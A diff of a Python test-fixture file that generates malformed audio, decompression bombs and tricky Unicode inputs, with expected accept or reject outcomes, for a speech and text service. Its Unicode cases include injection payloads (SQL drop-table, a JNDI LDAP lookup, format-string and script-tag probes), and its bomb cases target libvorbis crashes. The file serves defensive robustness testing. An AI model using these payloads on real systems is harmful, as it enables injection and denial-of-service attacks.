@@ -1,6 +1,6 @@
-"""Bad and odd utterances, the same ones at every run: what is sent, and whether it is to be answered or refused.
+"""Invalid and unusual utterances with their expected outcomes; they are the same in every run.
 
-Groups are generators of `Case`s; `utterances()` puts them together.
+Groups are generators of `Case`s, and `utterances()` yields all groups.
 """
 
 import io
@@ -23,7 +23,7 @@ from tests.encoding import CONTAINERS, encode, encode_with_ffmpeg
 from tests.hostile import vorbis
 
 SEED = 7
-Outcome = Literal["answered", "refused", "either"]  # either: chance decides what is left of a damaged file
+Outcome = Literal["answered", "rejected", "either"]  # either: random damage decides
 
 LONGEST = "the longest recording at the highest rate"
 
@@ -42,9 +42,9 @@ FORMATS = {  # file name ending: format and subtype of libsndfile
     "opus.ogg": ("OGG", "OPUS"),
     "mp3": ("MP3", "MPEG_LAYER_III"),
 }
-UNCOMPRESSED = ("wav", "float.wav", "wavex", "rf64", "w64", "aiff", "au")  # whose last 50 ms may be missing
+UNCOMPRESSED = ("wav", "float.wav", "wavex", "rf64", "w64", "aiff", "au")  # the last 50 ms may be missing
 ACCEPTED = (*FORMATS, *CONTAINERS)
-# what libsndfile reads, but whose files do not show where they were cut
+# formats of libsndfile in which truncation can't be detected
 UNWANTED = {
     "avr": ("AVR", "PCM_16"),
     "caf": ("CAF", "PCM_16"),
@@ -66,10 +66,13 @@ UNWANTED = {
 
 @dataclass(frozen=True)
 class Case:
-    """An utterance, and what is to become of it.
+    """An utterance and its expected outcome.
 
     Attributes:
-        says: words that the refusal's sentence must hold.
+        group, name: description of the case.
+        audio, text: the bytes that are sent.
+        expected: the outcome.
+        says: words that the error message of a rejection must contain.
     """
 
     group: str
@@ -82,7 +85,7 @@ class Case:
 
 @cache
 def voice(seconds: float = 1.0, rate: int = SAMPLE_RATE) -> NDArray[np.float32]:
-    """Something with pitch and breath, float32 [n]; the same at every call."""
+    """Return a voice-like sound with pitch and noise, float32 [n]; it is the same in every call."""
     time = np.arange(int(seconds * rate)) / rate
     breath = np.random.default_rng(SEED).standard_normal(time.size)
     pitch = np.sin(2 * np.pi * 140 * time) * (0.6 + 0.4 * np.sin(2 * np.pi * 3 * time))
@@ -91,14 +94,14 @@ def voice(seconds: float = 1.0, rate: int = SAMPLE_RATE) -> NDArray[np.float32]:
 
 @cache
 def file(ending: str) -> bytes:
-    """A good file of one second."""
+    """Return a valid file of one second."""
     return (
         encode_with_ffmpeg(voice(), ending) if ending in CONTAINERS else encode(voice(), *(FORMATS | UNWANTED)[ending])
     )
 
 
 def silence(seconds: int, kind: str, subtype: str, rate: int, channels: int) -> bytes:
-    """A long file that is small."""
+    """Return a small file with long silence."""
     buffer = io.BytesIO()
     block = np.zeros((rate, channels), np.int16)
     with soundfile.SoundFile(buffer, "w", rate, channels, subtype, format=kind) as out:
@@ -108,14 +111,14 @@ def silence(seconds: int, kind: str, subtype: str, rate: int, channels: int) -> 
 
 
 def patched(data: bytes, at: int, layout: str, *values: int) -> bytes:
-    """The file with fields of its header overwritten."""
+    """Return the file with overwritten header fields."""
     lie = bytearray(data)
     struct.pack_into(layout, lie, at, *values)
     return bytes(lie)
 
 
 def utterances() -> Iterator[Case]:
-    """All of them."""
+    """Yield the cases of all groups."""
     for group in (
         good,
         truncated,
@@ -135,13 +138,13 @@ def utterances() -> Iterator[Case]:
 
 
 def good() -> Iterator[Case]:
-    """Every accepted format: the corpus's own control."""
+    """Yield a valid file of every accepted format, as a control."""
     for ending in ACCEPTED:
         yield Case("good", ending, file(ending), b"he was not an ill-disposed young man", "answered")
 
 
 def truncated() -> Iterator[Case]:
-    """Every format, cut in its magic number, its header, its samples and its tail."""
+    """Yield every format, truncated in its magic number, header, samples and end."""
     for ending in ACCEPTED:
         data = file(ending)
         shares = (
@@ -158,19 +161,19 @@ def truncated() -> Iterator[Case]:
             cuts.remove(len(data) - 2)
             yield Case("truncated", f"{ending} without its last bytes", data[:-2], b"hello", "answered")
         for cut in sorted(cuts):
-            yield Case("truncated", f"{ending} at {cut} of {len(data)}", data[:cut], b"hello", "refused", "send")
+            yield Case("truncated", f"{ending} at {cut} of {len(data)}", data[:cut], b"hello", "rejected", "send")
 
 
 def unwanted_formats() -> Iterator[Case]:
-    """Whole and cut: neither is answered."""
+    """Yield complete and truncated files of unsupported formats."""
     for ending in UNWANTED:
         data = file(ending)
         for name, part in ((ending, data), (f"half of {ending}", data[: len(data) // 2])):
-            yield Case("unwanted formats", name, part, b"hello", "refused", "send")
+            yield Case("unwanted formats", name, part, b"hello", "rejected", "send")
 
 
 def damaged() -> Iterator[Case]:
-    """Every format with bytes changed, dropped, doubled, or swapped, in its header or anywhere."""
+    """Yield every format with changed, removed or repeated bytes in its header or anywhere."""
     chance = random.Random(SEED)
     for ending in ACCEPTED:
         for number in range(10):
@@ -190,7 +193,7 @@ def damaged() -> Iterator[Case]:
 
 
 def wav_lies() -> Iterator[Case]:
-    """Every field of a WAV's header set to what it can't be."""
+    """Yield WAV files with invalid values in every field of the header."""
     data = file("wav")  # RIFF size at 4; fmt: tag 20, channels 22, rate 24, bytes/s 28, block 32, bits 34; data size 40
     largest = 0xFFFFFFFF
     for name, at, layout, values in (
@@ -204,10 +207,10 @@ def wav_lies() -> Iterator[Case]:
     ):
         for value in values:
             yield Case("WAV header lies", f"{name} {value}", patched(data, at, layout, value), b"", "either")
-    for value in (len(data) + 2000, 10_000_000, 0x40000000):  # more than is there
+    for value in (len(data) + 2000, 10_000_000, 0x40000000):  # more than the file has
         lie = patched(data, 40, "<I", value)
-        yield Case("WAV header lies", f"data size {value}", lie, b"hello", "refused", "truncated WAV")
-    for value in (0, len(data), 2_000_000_000, 0x7FFFF000, 0x7FFFFFFF, largest):  # what recorders leave there
+        yield Case("WAV header lies", f"data size {value}", lie, b"hello", "rejected", "truncated WAV")
+    for value in (0, len(data), 2_000_000_000, 0x7FFFF000, 0x7FFFFFFF, largest):  # recorders leave them
         yield Case("WAV header lies", f"data size {value}", patched(data, 40, "<I", value), b"hello", "answered")
     for name, lie in (
         ("no fmt chunk", data[:12] + data[36:]),
@@ -224,7 +227,7 @@ def wav_lies() -> Iterator[Case]:
 
 
 def other_lies() -> Iterator[Case]:
-    """Lengths, rates and counts of the other containers."""
+    """Yield invalid lengths, rates and counts in the other containers."""
     aiff, au, flac = file("aiff"), file("au"), file("flac")
     common = aiff.index(b"COMM")
     for value in (0, 1, 17_000, 0x7FFFFFFF, 0xFFFFFFFF):
@@ -240,7 +243,7 @@ def other_lies() -> Iterator[Case]:
         ("denormal", 0, 1),
     ):
         lie = patched(aiff, common + 16, ">HQ", exponent, mantissa)
-        yield Case("other header lies", f"AIFF rate {name}", lie, b"", "refused", "AUDIO")
+        yield Case("other header lies", f"AIFF rate {name}", lie, b"", "rejected", "AUDIO")
     # STREAMINFO: 20 bits of rate, 3 of channels, 5 of bits, 36 of samples, at 18
     for name, bits in (
         ("2^36 - 1 samples", 16_000 << 44 | 15 << 36 | (1 << 36) - 1),
@@ -289,7 +292,7 @@ def other_lies() -> Iterator[Case]:
 
 
 def bombs() -> Iterator[Case]:
-    """Small or cheap to send, long or wide to decode."""
+    """Yield small files that are expensive to decode."""
     too_long, too_many = "at most 60 s are accepted", f"at most {MAX_SAMPLES} are accepted"
     for kind, subtype, seconds, rate, channels, says in (
         ("FLAC", "PCM_16", 3600, 8_000, 1, too_long),
@@ -303,37 +306,37 @@ def bombs() -> Iterator[Case]:
         ("AIFF", "IMA_ADPCM", 1800, 8_000, 1, too_long),
     ):
         name = f"{seconds} s of {subtype} in {kind}, {rate} Hz, {channels} channels"
-        yield Case("bombs", name, silence(seconds, kind, subtype, rate, channels), b"", "refused", says)
-    for count, bits in ((1, 20), (8, 22), (256, 22)):  # libvorbis crashes, or takes gigabytes
+        yield Case("bombs", name, silence(seconds, kind, subtype, rate, channels), b"", "rejected", says)
+    for count, bits in ((1, 20), (8, 22), (256, 22)):  # libvorbis crashes or needs gigabytes
         name = f"{count} codebooks of 2^{bits} entries"
-        yield Case("bombs", name, vorbis.codebooks(count, bits), b"", "refused", "codebooks")
+        yield Case("bombs", name, vorbis.codebooks(count, bits), b"", "rejected", "codebooks")
         tagged = b"ID3\x04\0\0\0\0\0\x0a" + bytes(10) + vorbis.codebooks(count, bits)
-        yield Case("bombs", f"{name} behind an ID3 tag", tagged, b"", "refused", "codebooks")
+        yield Case("bombs", f"{name} behind an ID3 tag", tagged, b"", "rejected", "codebooks")
         chained = file("vorbis.ogg") + vorbis.codebooks(count, bits)
         yield Case("bombs", f"{name} behind another stream", chained, b"", "either")
     mp3 = silence(90, "MP3", "MPEG_LAYER_III", 16_000, 1)
     without_count = mp3[mp3.index(mp3[:2], 4) :]
-    yield Case("bombs", "90 s of MP3 that does not say its length", without_count, b"", "refused", too_long)
+    yield Case("bombs", "90 s of MP3 that does not say its length", without_count, b"", "rejected", too_long)
     flac = silence(90, "FLAC", "PCM_16", 16_000, 1)
     unknown = patched(flac, 18, ">Q", 16_000 << 44 | 15 << 36)
-    yield Case("bombs", "90 s of FLAC that does not say its length", unknown, b"", "refused", too_long)
+    yield Case("bombs", "90 s of FLAC that does not say its length", unknown, b"", "rejected", too_long)
     short = patched(flac, 18, ">Q", 16_000 << 44 | 15 << 36 | 16_000)
     yield Case("bombs", "90 s of FLAC that says 1 s", short, b"", "either")
     largest = silence(60, "FLAC", "PCM_16", 384_000, 1)
     yield Case("bombs", LONGEST, largest, b"hello", "answered")
-    yield Case("bombs", "16 MB of zeros", bytes(16 << 20), b"", "refused", "not an audio file")
-    yield Case("bombs", "16 MB of noise", random.Random(SEED).randbytes(16 << 20), b"", "refused", "not an audio file")
+    yield Case("bombs", "16 MB of zeros", bytes(16 << 20), b"", "rejected", "not an audio file")
+    yield Case("bombs", "16 MB of noise", random.Random(SEED).randbytes(16 << 20), b"", "rejected", "not an audio file")
 
 
 def numbers() -> Iterator[Case]:
-    """Floating-point samples that no microphone gives."""
+    """Yield unusual floating-point samples."""
     for kind in ("WAV", "AIFF", "AU", "W64", "RF64"):
         for subtype, dtype in (("FLOAT", np.float32), ("DOUBLE", np.float64)):
             for name, value, expected, says in (
-                ("NaN", np.nan, "refused", "NaN or infinite"),
-                ("infinite", np.inf, "refused", "NaN or infinite"),
-                ("minus infinite", -np.inf, "refused", "NaN or infinite"),
-                ("1e38", 1e38, "refused", "full scale is 1.0"),
+                ("NaN", np.nan, "rejected", "NaN or infinite"),
+                ("infinite", np.inf, "rejected", "NaN or infinite"),
+                ("minus infinite", -np.inf, "rejected", "NaN or infinite"),
+                ("1e38", 1e38, "rejected", "full scale is 1.0"),
                 ("denormal", 1e-40, "answered", ""),
             ):
                 samples = voice().astype(dtype)
@@ -348,29 +351,29 @@ def numbers() -> Iterator[Case]:
         ("two samples", np.ones(2)),
     ):
         data = encode(samples, "WAV", "FLOAT")
-        yield Case("numbers", name, data, b"", "refused", "AUDIO has no sound above -60 dB of full scale")
+        yield Case("numbers", name, data, b"", "rejected", "AUDIO has no sound above -60 dB of full scale")
         yield Case("numbers", f"{name}, with text", data, b"hello", "answered")
     square = encode(np.sign(voice()), "WAV", "FLOAT")
     yield Case("numbers", "a square wave of full scale", square, b"", "answered")
     loud = encode(np.full(16_000, 1e300), "WAV", "DOUBLE")
-    yield Case("numbers", "too large for single precision", loud, b"", "refused", "NaN or infinite")
+    yield Case("numbers", "too large for single precision", loud, b"", "rejected", "NaN or infinite")
     opposite = np.full((16_000, 2), 3e38) * [1, -1]
-    yield Case("numbers", "channels that cancel out", encode(opposite, "WAV", "FLOAT"), b"", "refused", "full scale")
+    yield Case("numbers", "channels that cancel out", encode(opposite, "WAV", "FLOAT"), b"", "rejected", "full scale")
     infinite = np.full((16_000, 2), np.inf) * [1, -1]
-    yield Case("numbers", "infinities that cancel out", encode(infinite, "WAV", "FLOAT"), b"", "refused", "NaN")
+    yield Case("numbers", "infinities that cancel out", encode(infinite, "WAV", "FLOAT"), b"", "rejected", "NaN")
 
 
 def rates() -> Iterator[Case]:
-    """Sample rates from 0 to 2^32 - 1 Hz."""
+    """Yield sample rates from 0 to 2^32 - 1 Hz."""
     data = file("wav")
     for rate in (0, 1, 2, 50, 999, 3_999, 384_001, 1_000_000, 10_000_000, 2**31 - 1, 2**31, 2**32 - 1):
-        yield Case("rates", f"WAV of {rate} Hz", patched(data, 24, "<I", rate), b"hello", "refused", "AUDIO")
+        yield Case("rates", f"WAV of {rate} Hz", patched(data, 24, "<I", rate), b"hello", "rejected", "AUDIO")
     for rate in (4_000, 4_001, 7_919, 22_050, 44_101, 191_999, 384_000):
         yield Case("rates", f"WAV of {rate} Hz", patched(data, 24, "<I", rate), b"hello", "answered")
 
 
 def channel_counts() -> Iterator[Case]:
-    """One to 1,024 channels: averaged."""
+    """Yield files with 2 to 1,024 channels, which are averaged."""
     for channels in (2, 3, 6, 8, 64, 255, 1024):
         samples = np.repeat(voice()[:2000, None], channels, axis=1)
         yield Case("channels", f"WAV of {channels}", encode(samples), b"", "answered")
@@ -385,7 +388,7 @@ def channel_counts() -> Iterator[Case]:
 
 
 def not_audio() -> Iterator[Case]:
-    """Files of other kinds, and next to nothing."""
+    """Yield files of other types, and almost empty files."""
     chance = random.Random(SEED)
     for name, data in {
         "a byte": b"x",
@@ -408,69 +411,69 @@ def not_audio() -> Iterator[Case]:
         "bare 16-bit samples": (voice() * 32767).astype(np.int16).tobytes(),
         **{f"{size} bytes of noise": chance.randbytes(size) for size in (10, 100, 1000, 10_000, 100_000)},
     }.items():
-        yield Case("not audio", name, data, b"hello", "refused", "send")
+        yield Case("not audio", name, data, b"hello", "rejected", "send")
     zero = encode(voice()[:0])
-    yield Case("not audio", "a WAV of zero samples", zero, b"hello", "refused", "zero samples")
-    yield Case("not audio", "nothing, and no text", b"", b"", "refused", "both empty")
+    yield Case("not audio", "a WAV of zero samples", zero, b"hello", "rejected", "zero samples")
+    yield Case("not audio", "nothing, and no text", b"", b"", "rejected", "both empty")
 
 
 def unicode_text() -> Iterator[Case]:
-    """Well-formed UTF-8 that tokenizers stumble over."""
+    """Yield valid UTF-8 that is difficult for tokenizers."""
     nothing, many = "no letter or digit", "tokens; at most 512"
     texts: dict[str, tuple[str, Outcome, str]] = {
         "a combining storm": ("Z" + "\u0300\u0489\u20dd" * 300 + "algo", "answered", ""),
         "a storm on every letter": ("".join(c + "\u0336\u0321\u0334" * 20 for c in "he was not well"), "answered", ""),
-        "combining marks alone": ("\u0301" * 2000, "refused", nothing),
+        "combining marks alone": ("\u0301" * 2000, "rejected", nothing),
         "a family of a thousand, joined": ("\U0001f468\u200d" * 1000, "answered", ""),
         "emoji flood": ("\U0001f600" * 4000, "answered", ""),
-        "different emoji": ("".join(map(chr, range(0x1F400, 0x1F640))), "refused", many),
-        "emoji between letters": ("a\U0001f600" * 1000, "refused", many),
+        "different emoji": ("".join(map(chr, range(0x1F400, 0x1F640))), "rejected", many),
+        "emoji between letters": ("a\U0001f600" * 1000, "rejected", many),
         "flags": ("\U0001f1e9\U0001f1ea" * 500, "answered", ""),
-        "tones of skin alone": ("\U0001f3fd" * 1000, "refused", nothing),
+        "tones of skin alone": ("\U0001f3fd" * 1000, "rejected", nothing),
         "emoticons": (":( <3 :D " * 20, "answered", ""),
-        "stars": ("*" * MAX_BYTES, "refused", nothing),
+        "stars": ("*" * MAX_BYTES, "rejected", nothing),
         "masks": ("f*ck " * 200, "answered", ""),
-        "opening brackets": ("([{<" * 4000, "refused", nothing),
-        "tags that never close": ("<a " * 5000, "refused", many),
-        "annotations alone": ("[LAUGHTER] (sighs) <noise>" * 100, "refused", nothing),
-        "entities": ("&amp;" * 3000, "refused", nothing),
+        "opening brackets": ("([{<" * 4000, "rejected", nothing),
+        "tags that never close": ("<a " * 5000, "rejected", many),
+        "annotations alone": ("[LAUGHTER] (sighs) <noise>" * 100, "rejected", nothing),
+        "entities": ("&amp;" * 3000, "rejected", nothing),
         "an entity of 4,000 digits": ("hello &#" + "9" * 4000 + ";", "answered", ""),
         "keycaps": ("1\ufe0f\u20e3" * 100, "answered", ""),
         "bidi overrides": ("\u202eevil\u202c \u2066isolated\u2069 \u200fright\u200e", "answered", ""),
-        "bidi controls alone": ("\u202a\u202b\u202d\u202e\u2066\u2067\u2068" * 100, "refused", nothing),
+        "bidi controls alone": ("\u202a\u202b\u202d\u202e\u2066\u2067\u2068" * 100, "rejected", nothing),
         "bidi never closed": ("\u202e" * 1000 + "hello", "answered", ""),
         "zero-width letters between": ("h\u200be\u200cl\u200dl\u2060o\ufeff", "answered", ""),
         "a byte-order mark": ("\ufeffhello", "answered", ""),
         "variation selectors": ("hello" + "\ufe0f\U000e0100" * 400, "answered", ""),
         "tags": ("hello" + "".join(chr(0xE0000 + 0x20 + i % 90) for i in range(600)), "answered", ""),
         "ligature that grows eighteen-fold": ("\ufdfa" * 20, "answered", ""),
-        "five thousand of it": ("\ufdfa" * 5000, "refused", "either"),
+        "five thousand of it": ("\ufdfa" * 5000, "rejected", "either"),
         "Hangul jamo": ("\u1112\u1161\u11ab" * 100, "either", ""),
         "Hangul fillers": ("\u3164\uffa0\u115f" * 100, "either", ""),
         "mathematical letters": ("\U0001d4d7\U0001d4ee\U0001d4ee\U0001d4ee\U0001d4ee hi", "answered", ""),
         "full width": ("\uff28\uff25\uff2c\uff2c\uff2f", "answered", ""),
         "dotted I": ("\u0130" * 300, "answered", ""),
         "sharp s and final sigma": ("STRA\u1e9eE \u03a3\u03a3\u03a3 \ufb03", "answered", ""),
-        "private use": ("\ue000\U000f0000\U0010fffd" * 100, "refused", nothing),
+        "private use": ("\ue000\U000f0000\U0010fffd" * 100, "rejected", nothing),
         "non-characters": ("\ufffe\uffff\U0001fffe hello", "answered", ""),
-        "replacement characters": ("\ufffd" * 3000, "refused", nothing),
+        "replacement characters": ("\ufffd" * 3000, "rejected", nothing),
         "control characters": ("".join(map(chr, range(1, 32))) + "hello\x7f\x80\x9f", "answered", ""),
-        "control characters alone": ("".join(map(chr, range(1, 32))) * 50, "refused", nothing),
+        "control characters alone": ("".join(map(chr, range(1, 32))) * 50, "rejected", nothing),
         "terminal escapes": ("\x1b[31mred\x1b[0m \x1b]0;title\x07", "answered", ""),
         "line separators": ("one\u2028two\u2029three\x0b\x0cfour\x85five", "answered", ""),
         "every kind of space": ("a\u00a0b\u1680c\u2003d\u202fe\u205ff\u3000g", "answered", ""),
-        "spaces": (" " * 10_000, "refused", nothing),
+        "spaces": (" " * 10_000, "rejected", nothing),
         "SQL": ("'; DROP TABLE users; --", "answered", ""),
         "a template": ("{{7*7}} ${jndi:ldap://x/a} %s%s%n", "answered", ""),
         "HTML": ("<script>alert('x')</script>", "answered", ""),
-        "special tokens of BERT": ("[CLS] [SEP] [MASK] [PAD] [UNK]" * 20, "refused", nothing),
+        "special tokens of BERT": ("[CLS] [SEP] [MASK] [PAD] [UNK]" * 20, "rejected", nothing),
         "a word of 5,000 letters": ("a" * 5000, "answered", ""),
         "a word of as many bytes as are accepted": ("a" * MAX_BYTES, "answered", ""),
-        "dots": ("." * 5000, "refused", nothing),
+        "dots": ("." * 5000, "rejected", nothing),
         "apostrophes in words": ("'" * 400 + "a", "answered", ""),
-        "five hundred words more than fit": ("word " * 1010, "refused", many),
+        "five hundred words more than fit": ("word " * 1010, "rejected", many),
         "Chinese": ("\u4f60\u597d" * 100, "answered", ""),
-        "too much Chinese": ("\u4f60\u597d" * 300, "refused", many),
+        "too much Chinese": ("\u4f60\u597d" * 300, "rejected", many),
         "Arabic": ("\u0645\u0631\u062d\u0628\u0627 " * 20, "answered", ""),
         "Hebrew with points": ("\u05e9\u05b8\u05c1\u05dc\u05d5\u05b9\u05dd " * 20, "answered", ""),
         "Devanagari": ("\u0928\u092e\u0938\u094d\u0924\u0947 " * 20, "answered", ""),
@@ -478,14 +481,14 @@ def unicode_text() -> Iterator[Case]:
         "cuneiform": ("\U00012000" * 400, "either", ""),
         "digits of every script": ("\u0661\u0967\u09e7\uff11\U0001d7d8", "answered", ""),
         "fractions and Roman numerals": ("\u00bd \u216b \u2460 \u33a5", "answered", ""),
-        "underscores": ("_" * 1000, "refused", nothing),
+        "underscores": ("_" * 1000, "rejected", nothing),
         "soft hyphens": ("he\u00adllo" * 50, "answered", ""),
     }
     for name, (text, expected, says) in texts.items():
-        refused = expected == "refused"
+        rejected = expected == "rejected"
         outcome: Outcome = "either" if says == "either" else expected
-        yield Case("Unicode", name, b"", text.encode(), outcome, says if refused and says != "either" else "")
-    for block in range(0x80, 0x3000, 0x100):  # a sample of every 256 code points of the scripts in use
+        yield Case("Unicode", name, b"", text.encode(), outcome, says if rejected and says != "either" else "")
+    for block in range(0x80, 0x3000, 0x100):  # blocks of 256 code points of the scripts in use
         characters = "".join(chr(block + i) for i in range(256) if unicodedata.category(chr(block + i)) != "Cs")
         yield Case("Unicode", f"U+{block:04X} and what follows", b"", characters.encode(), "either")
     chance = random.Random(SEED)
@@ -495,7 +498,7 @@ def unicode_text() -> Iterator[Case]:
 
 
 def raw_text() -> Iterator[Case]:
-    """Bytes that are no text, and too many of them."""
+    """Yield bytes that are not valid text, and too long texts."""
     for name, data in {
         "Latin-1": b"caf\xe9",
         "a lone continuation": b"hello \x80",
@@ -511,14 +514,14 @@ def raw_text() -> Iterator[Case]:
         "UTF-16": "hello".encode("utf-16"),
         "noise": random.Random(SEED).randbytes(1000),
     }.items():
-        yield Case("raw text", name, b"", data, "refused", "not valid UTF-8")
+        yield Case("raw text", name, b"", data, "rejected", "not valid UTF-8")
     for name, data in {
         "a NUL": b"\0",
         "NUL within": b"he\0llo",
         "1,000 NULs": bytes(1000),
         "UTF-16LE": b"h\0i\0",
     }.items():
-        yield Case("raw text", name, b"", data, "refused", "NUL character")
+        yield Case("raw text", name, b"", data, "rejected", "NUL character")
     for name, data in {
         "one byte too many": b"a" * (MAX_BYTES + 1),
         "1 MB of one letter": b"a" * 1_000_000,
@@ -530,4 +533,4 @@ def raw_text() -> Iterator[Case]:
         "1 MB of combining marks": b"a" + "\u0301".encode() * 500_000,
         "8 MB": b"word " * 1_600_000,
     }.items():
-        yield Case("raw text", name, b"", data, "refused", f"bytes; at most {MAX_BYTES}")
+        yield Case("raw text", name, b"", data, "rejected", f"bytes; at most {MAX_BYTES}")
